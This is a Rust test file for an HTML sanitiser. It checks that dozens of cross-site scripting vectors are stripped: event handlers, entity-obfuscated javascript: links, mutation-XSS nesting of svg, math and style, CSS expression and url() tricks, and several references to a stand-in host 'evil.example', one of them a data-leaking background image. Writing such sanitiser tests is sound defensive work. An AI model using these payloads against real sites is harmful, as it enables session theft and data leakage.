//! Known ways to get a script, a style or a request past a sanitiser, and what becomes of each.

use super::cleaned;
use super::soup::offences;

/// Checks pairs of a stranger's HTML and what must be left of it; ` ~` stands for what every image
/// gets.
fn check(cases: &[(&str, &str)]) {
    for (html, expected) in cases {
        let expected = expected.replace(" ~", " loading=\"lazy\" decoding=\"async\"");
        let clean = cleaned(html);
        assert_eq!(clean, expected, "{html}");
        assert_eq!(cleaned(&clean), clean, "{html}");
        assert_eq!(offences(&clean), Vec::<String>::new(), "{html}");
    }
}

#[test]
fn scripts_and_handlers_go() {
    check(&[
        ("<script>alert(1)</script>x", "x"),
        ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", ""),
        ("<script>alert(1)", ""),
        ("<scr<script>ipt>alert(1)</scr</script>ipt>", "ipt&gt;alert(1)ipt&gt;"),
        ("<<script>alert(1)//<</script>", "&lt;"),
        ("<script/x>alert(1)</script>", ""),
        ("<img src=x onerror=alert(1)>", r#"<img src="x" alt="" ~>"#),
        ("<img src=x onerror =alert(1)>", r#"<img src="x" alt="" ~>"#),
        ("<img/src=x/onerror=alert(1)>", r#"<img src="x/onerror=alert(1)" alt="" ~>"#),
        (r#"<IMG SRC=x OnErRoR="alert(1)">"#, r#"<img src="x" alt="" ~>"#),
        (r#"<img src="x" onerror="alert(1)" onload='alert(2)'>"#, r#"<img src="x" alt="" ~>"#),
        (r#"<img """><script>alert(1)</script>">"#, r#""&gt;"#),
    ]);
}

#[test]
fn image_and_media_addresses_are_checked() {
    check(&[
        ("<img src=`javascript:alert(1)`>", ""),
        ("<img src=javascript:alert(1)>", ""),
        (r#"<img src="data:image/svg+xml;base64,PHN2Zz4=">"#, ""),
        (r#"<img src="data:text/html,<script>alert(1)</script>">"#, ""),
        (r#"<img src="data:image/png;base64,AAAA" alt=a>"#, r#"<img src="data:image/png;base64,AAAA" alt="a" ~>"#),
        (r#"<img src="data:image/png,AAAA">"#, ""),
        (r#"<img src="data:image/png;base64,AA<script>">"#, ""),
        (r#"<img srcset="javascript:alert(1) 1x, a.png 2x">"#, r#"<img srcset="a.png 2x" alt="" ~>"#),
        (r#"<img srcset="data:text/html,x 1x">"#, ""),
        (r#"<img srcset="a.png 1x onerror=alert(1)">"#, ""),
        ("<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>", ""),
        ("<p onclick=alert(1) onmouseover=alert(2)>x</p>", "<p>x</p>"),
        ("<p onpointerrawupdate=alert(1) onbeforetoggle=alert(1)>x</p>", "<p>x</p>"),
        ("<details open ontoggle=alert(1)>x</details>", r#"<details open="">x</details>"#),
        ("<video src=x onerror=alert(1) autoplay></video>", r#"<video src="x" controls="" preload="none"></video>"#),
        ("<audio src=javascript:alert(1) autoplay></audio>", r#"<audio controls="" preload="none"></audio>"#),
        (
            "<video poster=javascript:alert(1) src=a.mp4></video>",
            r#"<video src="a.mp4" controls="" preload="none"></video>"#,
        ),
        (
            "<video><source src=javascript:alert(1) onerror=alert(1)></video>",
            r#"<video controls="" preload="none"></video>"#,
        ),
        ("<track src=data:text/vtt,x>", ""),
    ]);
}

#[test]
fn link_addresses_are_read_as_browsers_read_them() {
    check(&[
        ("<a href=javascript:alert(1)>x</a>", "x"),
        ("<a href=JaVaScRiPt:alert(1)>x</a>", "x"),
        (r#"<a href=" javascript:alert(1)">x</a>"#, "x"),
        (r#"<a href="&#1;javascript:alert(1)">x</a>"#, "x"),
        (r#"<a href="java&#10;script:alert(1)">x</a>"#, "x"),
        (r#"<a href="java&Tab;script:alert(1)">x</a>"#, "x"),
        (r#"<a href="jav&#x0A;ascript:alert(1)">x</a>"#, "x"),
        (r#"<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>"#, "x"),
        (r#"<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>"#, "x"),
        (r#"<a href="javascript&colon;alert(1)">x</a>"#, "x"),
        (r#"<a href="java&Tab;script&colon;alert&lpar;1&rpar;">x</a>"#, "x"),
        (r#"<a href="java&#0;script:alert(1)">x</a>"#, "x"),
        (r#"<a href="javascript&#65306;alert(1)">x</a>"#, r#"<a href="javascript：alert(1)">x</a>"#),
        (r#"<a href="vbscript:msgbox(1)">x</a>"#, "x"),
        (r#"<a href="livescript:alert(1)">x</a>"#, "x"),
        (r#"<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>"#, "x"),
        (r#"<a href="data:image/png;base64,AAAA">x</a>"#, "x"),
        (r#"<a href="blob:https://x/1">x</a>"#, "x"),
        (r#"<a href="file:///etc/passwd">x</a>"#, "x"),
        (r#"<a href="view-source:javascript:alert(1)">x</a>"#, "x"),
        (r#"<a href="feed:javascript:alert(1)">x</a>"#, "x"),
        (r#"<a href="intent://x#Intent;scheme=javascript;end">x</a>"#, "x"),
        (r#"<a href="//evil.example/">x</a>"#, r#"<a href="//evil.example/" rel="noopener">x</a>"#),
        (r#"<a href="/\evil.example/">x</a>"#, r#"<a href="/\evil.example/" rel="noopener">x</a>"#),
        (r#"<a href="https:evil.example">x</a>"#, r#"<a href="https:evil.example" rel="noopener">x</a>"#),
        (r#"<a href="?javascript:alert(1)">x</a>"#, r#"<a href="?javascript:alert(1)">x</a>"#),
        (r#"<a href="x" target=_blank ping=//evil.example download>x</a>"#, r#"<a href="x">x</a>"#),
        (r#"<a href=x rel="opener prefetch nofollow NOFOLLOW">x</a>"#, r#"<a href="x" rel="nofollow">x</a>"#),
        ("<a xlink:href=javascript:alert(1)>x</a>", "x"),
        ("<a name=x>y</a>", "y"),
    ]);
}

#[test]
fn foreign_documents_and_head_elements_go() {
    check(&[
        ("<iframe src=//evil.example></iframe>", ""),
        (r#"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#, ""),
        (r#"<iframe><p title="</iframe><img src=x onerror=alert(1)>">"#, r#"<img src="x" alt="" ~>"&gt;"#),
        ("<object data=javascript:alert(1)><p>x</p></object>", ""),
        ("<embed src=//evil.example/x.swf>", ""),
        ("<applet code=x>y</applet>", ""),
        ("<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", ""),
        ("<body onload=alert(1)>x</body>", "x"),
        ("<html onclick=alert(1)>x</html>", "x"),
        ("<base href=//evil.example/><a href=x>y</a>", r#"<a href="x">y</a>"#),
        (r#"<meta http-equiv=refresh content="0;url=javascript:alert(1)">x"#, "x"),
        ("<link rel=stylesheet href=//evil.example/x.css>x", "x"),
        ("<style>@import '//evil.example/x.css'; body{display:none}</style>x", "x"),
        ("<style><!--</style><script>alert(1)//--></script>", ""),
        ("<title><script>alert(1)</script></title>x", "x"),
    ]);
}

#[test]
fn controls_go_and_forms_leave_their_content() {
    check(&[
        (
            "<form action=javascript:alert(1)><input name=a><button formaction=javascript:alert(1)>go</button>x</form>",
            "x",
        ),
        ("<form id=f><p>x</p></form><button form=f>b</button>", "<p>x</p>"),
        ("<input autofocus onfocus=alert(1)>", ""),
        ("<select autofocus onfocus=alert(1)><option>x</select>y", "y"),
        ("<textarea><img src=x onerror=alert(1)></textarea>", ""),
        ("<textarea></textarea><script>alert(1)</script></textarea>", ""),
        ("<keygen autofocus onfocus=alert(1)>", ""),
        ("<isindex type=image src=1 onerror=alert(1)>", ""),
        ("<dialog open>x</dialog>", ""),
        ("<marquee onstart=alert(1)>x</marquee>", "x"),
        ("<bgsound src=javascript:alert(1)>", ""),
        ("<layer src=//evil.example>x</layer>", "x"),
        ("<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>", "]]&gt;"),
        ("<x-widget is=y onclick=alert(1)>x</x-widget>", "x"),
    ]);
}

#[test]
fn svg_and_math_go_with_whatever_hides_in_them() {
    check(&[
        ("<svg onload=alert(1)></svg>", ""),
        ("<svg><script>alert(1)</script></svg>", ""),
        ("<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", ""),
        ("<svg><animate attributeName=href values=javascript:alert(1) /></svg>", ""),
        (r#"<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x" /></svg>"#, ""),
        ("<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>", ""),
        (r#"<svg></p><style><a id="</style><img src=x onerror=alert(1)>">"#, r#"<p></p><img src="x" alt="" ~>"&gt;"#),
        ("<svg><style><img src=x onerror=alert(1)></style></svg>", r#"<img src="x" alt="" ~>"#),
        ("<svg><title><style><img src=x onerror=alert(1)></style></title></svg>", ""),
        ("<svg><desc><p>a</p><table><tr><td></svg><img src=x onerror=alert(1)>", ""),
        (r#"<math><mi//xlink:href="data:x,<script>alert(1)</script>">"#, ""),
        (
            r#"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">"#,
            "",
        ),
        (
            r#"<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>"#,
            "",
        ),
        ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", ""),
        (r#"<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">"#, ""),
        (
            "<math></p><mglyph><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></math>",
            r#"<p></p><img src="x" alt="" ~>]]&gt;"#,
        ),
    ]);
}

#[test]
fn raw_text_and_templates_hide_nothing() {
    check(&[
        (
            r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>"#,
            r#"<img src="x" alt="" ~>"&gt;"#,
        ),
        (r#"<noembed><img src="</noembed><img src=x onerror=alert(1)>">"#, r#"<img src="x" alt="" ~>"&gt;"#),
        (r#"<noframes><img src="</noframes><img src=x onerror=alert(1)>">"#, r#"<img src="x" alt="" ~>"&gt;"#),
        (r#"<xmp><img src="</xmp><img src=x onerror=alert(1)>">"#, r#"<img src="x" alt="" ~>"&gt;"#),
        ("<plaintext><img src=x onerror=alert(1)>", ""),
        ("<template><img src=x onerror=alert(1)></template>x", "x"),
        ("<div><template shadowrootmode=open><script>alert(1)</script></template></div>", "<div></div>"),
        ("<template><table><tr><td></template><script>alert(1)</script>", ""),
    ]);
}

#[test]
fn tables_hide_nothing() {
    check(&[
        ("<table><script>alert(1)</script><tr><td>x</table>", "<table><tbody><tr><td>x</td></tr></tbody></table>"),
        (
            "<table background=javascript:alert(1)><tr><td background=x>y</table>",
            "<table><tbody><tr><td>y</td></tr></tbody></table>",
        ),
        (
            "<table><a href=1><table><a href=javascript:alert(1)>x</a></table></a></table>",
            r#"<a href="1"></a><table></table>x<table></table>"#,
        ),
        (
            "<table><td><select><option><style></option></select><img src=x onerror=alert(1)></style></table>",
            "<table><tbody><tr><td></td></tr></tbody></table>",
        ),
    ]);
}

#[test]
fn comments_and_declarations_go() {
    check(&[
        ("<!--><script>alert(1)</script>-->", "--&gt;"),
        ("<!-- --!><img src=x onerror=alert(1)> -->", r#"<img src="x" alt="" ~> --&gt;"#),
        ("<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", ""),
        ("<![CDATA[<script>alert(1)</script>]]>", "alert(1)]]&gt;"),
        (r#"<?xml-stylesheet href="javascript:alert(1)"?>x"#, "x"),
        (r#"<!doctype html [<!entity x "<script>">]>x"#, r#""&gt;]&gt;x"#),
    ]);
}

#[test]
fn attributes_cannot_break_out() {
    check(&[
        (r#"</p title="<script>alert(1)</script>">"#, "<p></p>"),
        (
            r#"<p title="&quot;><script>alert(1)</script>">x</p>"#,
            r#"<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>"#,
        ),
        (
            r#"<p title='"><img src=x onerror=alert(1)>'>x</p>"#,
            r#"<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>"#,
        ),
        (
            r#"<p class="&quot; onclick=alert(1) x=&quot;">x</p>"#,
            r#"<p class="&quot; onclick=alert(1) x=&quot;">x</p>"#,
        ),
        (r#"<p id="a b">x</p><p id=c>y</p>"#, r#"<p>x</p><p id="c">y</p>"#),
        (r#"<p lang='"onclick=x' dir=evil>x</p>"#, "<p>x</p>"),
    ]);
}

#[test]
fn styles_are_reduced_to_the_harmless() {
    check(&[
        (r#"<p style="background:url(javascript:alert(1))">x</p>"#, "<p>x</p>"),
        (r#"<p style="width:expression(alert(1))">x</p>"#, "<p>x</p>"),
        (r#"<p style="width:exp/**/ression(alert(1))">x</p>"#, "<p>x</p>"),
        (r#"<p style="behavior:url(x.htc);-moz-binding:url(x.xml#y)">x</p>"#, "<p>x</p>"),
        (
            r#"<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>"#,
            r#"<p style="width:100%">x</p>"#,
        ),
        (r#"<p style="color:red;background-image:url('//evil.example/?leak')">x</p>"#, r#"<p style="color:red">x</p>"#),
        (r#"<p style="color:var(--x);border:1px solid url(x)">x</p>"#, "<p>x</p>"),
        (r#"<p style="color:\72 ed;c\6f lor:blue">x</p>"#, "<p>x</p>"),
        (r#"<p style="margin:-999px;padding:1px">x</p>"#, r#"<p style="padding:1px">x</p>"#),
        (r#"<p style="color:red;}</style><script>alert(1)</script>">x</p>"#, r#"<p style="color:red">x</p>"#),
        (r#"<p style="margin:calc(1px + 2px);width:1e9px;width:10px">x</p>"#, r#"<p style="width:10px">x</p>"#),
        (r#"<p style="@import '//evil.example'">x</p>"#, "<p>x</p>"),
        (r#"<p style='font-family:"x;color:red;y"'>x</p>"#, "<p>x</p>"),
    ]);
}

#[test]
fn crooked_markup_is_straightened() {
    check(&[
        ("<td><img src=x onerror=alert(1)></td>", r#"<img src="x" alt="" ~>"#),
        ("<b><p><script>alert(1)</script></b>x</p>", "<b></b><p><b></b>x</p>"),
        ("<a href=x><b><a href=javascript:alert(1)>y</b></a>", r#"<a href="x"><b></b></a><b>y</b>"#),
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("&amp;lt;script&amp;gt;", "&amp;lt;script&amp;gt;"),
        ("<p/onclick=alert(1)/title=x>y", "<p>y</p>"),
        (r#"<p a="1"onclick="alert(1)">x"#, "<p>x</p>"),
        (r#"<p "onclick=alert(1)>x"#, "<p>x</p>"),
        ("<p =onclick=alert(1)>x", "<p>x</p>"),
        ("<img src=x id=a onerror=alert(1) id=b>", r#"<img src="x" id="a" alt="" ~>"#),
        ("<image src=x onerror=alert(1)>", r#"<img src="x" alt="" ~>"#),
        (
            "<img src=x usemap=#m ismap crossorigin=use-credentials referrerpolicy=unsafe-url>",
            r#"<img src="x" alt="" ~>"#,
        ),
        ("<map name=m><area href=javascript:alert(1)></map>", ""),
        ("<center onclick=alert(1)>x</center>", r#"<div style="text-align:center">x</div>"#),
        ("<font color=red onclick=alert(1)>x</font>", "x"),
        ("<ol start=javascript type=x><li value=1e9>x</ol>", "<ol><li>x</li></ol>"),
        ("<q cite=javascript:alert(1)>x</q>", "<q>x</q>"),
        (r#"<time datetime="<script>">x</time>"#, "<time>x</time>"),
        (
            r#"<source src=javascript:alert(1)><source srcset="a.png 1x" media="(min-width:1px)" type="image/webp">"#,
            r#"<source srcset="a.png 1x" media="(min-width:1px)" type="image/webp">"#,
        ),
    ]);
}

#[test]
fn tags_that_make_a_parser_pause_do_not_end_the_body() {
    check(&[
        ("<meta charset=gbk>一<meta http-equiv=content-type content='text/html;charset=gbk'>二", "一二"),
        ("<script>x</script>一<svg><script>x</script></svg>二", "一二"),
    ]);
}
